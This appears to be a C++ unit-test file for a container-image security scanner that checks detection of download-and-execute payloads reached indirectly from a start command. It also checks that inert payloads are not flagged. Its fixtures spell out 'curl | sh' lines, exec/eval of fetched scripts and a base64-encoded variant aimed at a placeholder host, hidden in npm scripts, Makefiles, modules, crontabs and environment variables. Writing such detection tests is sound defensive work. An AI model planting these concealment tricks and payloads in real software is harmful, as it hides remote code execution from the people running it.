// What starts by a roundabout way is found as if it stood in the start command, and what lies there without starting
// is not.
#include <gtest/gtest.h>

#include <functional>

#include "detect/image_builder.hpp"
#include "util/base64.hpp"

namespace hullcheck::detect {
namespace {

struct Way {
  std::string_view name;
  std::function<void(ImageBuilder&)> build;
};

void command(ImageBuilder& image, std::vector<std::string> words) {
  image.config().working_dir = "/app";
  image.config().cmd = std::move(words);
}

constexpr std::string_view k_fetch_py = "import requests\nexec(requests.get('https://dl.example.com/x.py').text)\n";
constexpr std::string_view k_fetch_js =
    "require('https').get('https://dl.example.com/x.js', r => { let s = ''; r.on('data', d => s += d); "
    "r.on('end', () => eval(s)); });\n";
constexpr std::string_view k_project = R"({"scripts": {
  "start": "node server.js",
  "deploy": "curl -fsSL https://dl.example.com/x.sh | sh"}})";
constexpr std::string_view k_makefile =
    "URL = https://dl.example.com\nserve:\n\t./serve\nbuild:\n\tcurl -o /tmp/x $(URL)/x\n\tchmod +x "
    "/tmp/x\n\t/tmp/x\n";

const std::vector<Way>& ways() {
  static const std::vector<Way> k_ways = {
      {"npm run",
       [](ImageBuilder& image) {
         image.file("app/package.json", k_project);
         command(image, {"npm", "run", "deploy"});
       }},
      {"yarn behind cd",
       [](ImageBuilder& image) {
         image.file("srv/web/package.json", k_project);
         command(image, {"sh", "-c", "cd /srv/web && yarn deploy"});
       }},
      {"make",
       [](ImageBuilder& image) {
         image.file("app/Makefile", k_makefile);
         command(image, {"make", "build"});
       }},
      {"module of Python",
       [](ImageBuilder& image) {
         image.file("app/main.py", "import util\nutil.go()\n").file("app/util.py", k_fetch_py);
         command(image, {"python3", "main.py"});
       }},
      {"module of a server",
       [](ImageBuilder& image) {
         image.file("app/shop/__init__.py", "").file("app/shop/wsgi.py", "from . import hook\napplication = 1\n");
         image.file("app/shop/hook.py", k_fetch_py);
         command(image, {"gunicorn", "shop.wsgi:application"});
       }},
      {"module of Node.js",
       [](ImageBuilder& image) {
         image.file("app/index.js", "require('./lib/telemetry')\n").file("app/lib/telemetry.js", k_fetch_js);
         command(image, {"node", "index.js"});
       }},
      {"folder of Python",
       [](ImageBuilder& image) {
         image.file("app/__main__.py", k_fetch_py);
         command(image, {"python3", "/app"});
       }},
      {"file without its suffix",
       [](ImageBuilder& image) {
         image.file("app/server.js", k_fetch_js);
         command(image, {"node", "server"});
       }},
      {"settings of a server",
       [](ImageBuilder& image) {
         image.file("app/gunicorn.conf.py", k_fetch_py).file("app/shop.py", "application = 1\n");
         command(image, {"poetry", "run", "gunicorn", "shop:application"});
       }},
      {"task of rake",
       [](ImageBuilder& image) {
         image.file("app/Rakefile", "task :default do\n  sh 'curl -s https://dl.example.com/x | sh'\nend\n");
         command(image, {"bundle", "exec", "rake"});
       }},
      {"settings of a bundler",
       [](ImageBuilder& image) {
         image.file("app/next.config.js", k_fetch_js);
         command(image, {"npx", "-y", "next", "start"});
       }},
      {"code in a variable",
       [](ImageBuilder& image) {
         image.config().env = {"RUN=__import__('os').system('curl -s https://dl.example.com/x | sh')"};
         command(image, {"python3", "-c", "import os; exec(os.environ['RUN'])"});
       }},
      {"encoded code in a variable",
       [](ImageBuilder& image) {
         image.config().env = {
             "STAGE=" +
             util::encode_base64(as_bytes("require('child_process').exec('curl -s https://dl.example.com/x | sh')"))};
         command(image, {"node", "-e", "eval(Buffer.from(process.env.STAGE, 'base64').toString())"});
       }},
      {"execline",
       [](ImageBuilder& image) {
         image.file("etc/services.d/x/run",
                    "#!/command/execlineb -P\nwith-contenv\npipeline { curl -s https://dl.example.com/x } sh\n",
                    0755);
         image.program("init");
         image.config().entrypoint = {"/init"};
       }},
      {"another project of the workspace",
       [](ImageBuilder& image) {
         image.file("app/package.json", R"({"workspaces": ["parts/*"]})").file("app/parts/a/package.json", k_project);
         command(image, {"yarn", "workspace", "a", "deploy"});
       }},
      {"all projects of the workspace",
       [](ImageBuilder& image) {
         image.file("app/package.json", R"({"scripts": {"start": "turbo run deploy"}})")
             .file("app/parts/a/package.json", k_project);
         command(image, {"npm", "start"});
       }},
      {"scripts that run together",
       [](ImageBuilder& image) {
         image.file("app/package.json", R"({"scripts": {"start": "run-p 'part:*' other", "other": "true",
           "part:a": "curl -fsSL https://dl.example.com/x.sh | sh"}})");
         command(image, {"npm", "start"});
       }},
      {"commands that run together",
       [](ImageBuilder& image) {
         image.file("app/package.json", R"({"scripts": {"start": "concurrently -n a,b 'node x' 'npm:go'",
           "go": "curl -fsSL https://dl.example.com/x.sh | sh"}})");
         command(image, {"npm", "start"});
       }},
      {"what a Makefile runs as it is read",
       [](ImageBuilder& image) {
         image.file("app/Makefile", "X := $(shell curl -s https://dl.example.com/x.sh | sh)\nrun:\n\t./serve\n");
         command(image, {"make", "run"});
       }},
      {"the second rule of the first target",
       [](ImageBuilder& image) {
         image.file("app/Makefile", "run: other\nother:\n\ttrue\nrun:\n\tcurl -s https://dl.example.com/x.sh | sh\n");
         command(image, {"make"});
       }},
      {"a program that is looked for",
       [](ImageBuilder& image) {
         command(image, {"sh", "-c", "x=$(command -v curl || command -v wget); $x https://dl.example.com/x.sh | sh"});
       }},
      {"a crontab that is handed over",
       [](ImageBuilder& image) {
         image.file("app/jobs", "SHELL=/bin/sh\n*/5 * * * * curl -s https://dl.example.com/x.sh | sh\n");
         command(image, {"sh", "-c", "crontab jobs && exec crond -f"});
       }},
      {"a crontab of another cron",
       [](ImageBuilder& image) {
         image.file("app/crontab", "*/5 * * * * curl -s https://dl.example.com/x.sh | sh\n");
         command(image, {"supercronic", "/app/crontab"});
       }},
      {"a supervisor's file where it stands",
       [](ImageBuilder& image) {
         image.file("app/supervisord.conf", "[program:a]\ncommand=sh -c 'curl https://dl.example.com/x.sh | sh'\n");
         command(image, {"supervisord", "-n"});
       }},
      {"behind a tool that brings secrets",
       [](ImageBuilder& image) {
         command(image, {"sh", "-c", "doppler run -- sh -c 'curl https://dl.example.com/x.sh | sh'"});
       }},
  };
  return k_ways;
}

TEST(StartThreats, RoundaboutWaysAreFollowed) {
  for (const Way& way : ways()) {
    ImageBuilder image;
    way.build(image);
    const Assessment found = image.assess();
    EXPECT_FALSE(found.threats.empty()) << way.name;
    for (const model::Finding& threat : found.threats) EXPECT_FALSE(threat.chain.empty()) << way.name;
  }
}

TEST(StartThreats, WhatDoesNotStartIsNone) {
  const std::vector<Way> others = {
      {"another script of the project",
       [](ImageBuilder& image) {
         image.file("app/package.json", k_project).file("app/server.js", "1\n");
         command(image, {"npm", "start"});
       }},
      {"another rule",
       [](ImageBuilder& image) {
         image.file("app/Makefile", k_makefile).program("app/serve");
         command(image, {"make"});
       }},
      {"a module that nobody loads",
       [](ImageBuilder& image) {
         image.file("app/main.py", "import other\n").file("app/util.py", k_fetch_py).file("app/other.py", "x = 1\n");
         command(image, {"python3", "main.py"});
       }},
      {"settings of another program",
       [](ImageBuilder& image) {
         image.file("app/gunicorn.conf.py", k_fetch_py).file("app/next.config.js", k_fetch_js);
         image.file("app/Rakefile", "task :x do\n  sh 'git status'\nend\n");
         command(image, {"bundle", "exec", "rake"});
       }},
      {"what a Makefile asks as it is read",
       [](ImageBuilder& image) {
         image
             .file("app/Makefile",
                   "V := $(shell git describe)\nIP := $(shell curl -s https://ip.example.com)\nrun:\n\t./serve\n")
             .program("app/serve");
         command(image, {"make"});
       }},
      {"a tool that reads secrets",
       [](ImageBuilder& image) {
         command(image, {"sh", "-c", "op read op://a/b; which curl | sort"});
       }},
      {"a crontab that is handed over and harmless",
       [](ImageBuilder& image) {
         image.file("app/jobs",
                    "0 3 * * * pg_dump app | gzip > /backup/app.gz\n*/5 * * * * curl -fsS https://up.example.com\n");
         command(image, {"sh", "-c", "crontab /app/jobs && exec crond -f"});
       }},
      {"a project that nobody runs",
       [](ImageBuilder& image) {
         image.file("app/package.json", k_project).file("app/Makefile", k_makefile);
         command(image, {"sleep", "1"});
       }},
  };
  for (const Way& way : others) {
    ImageBuilder image;
    way.build(image);
    EXPECT_TRUE(image.assess().threats.empty()) << way.name;
  }
}

}  // namespace
}  // namespace hullcheck::detect
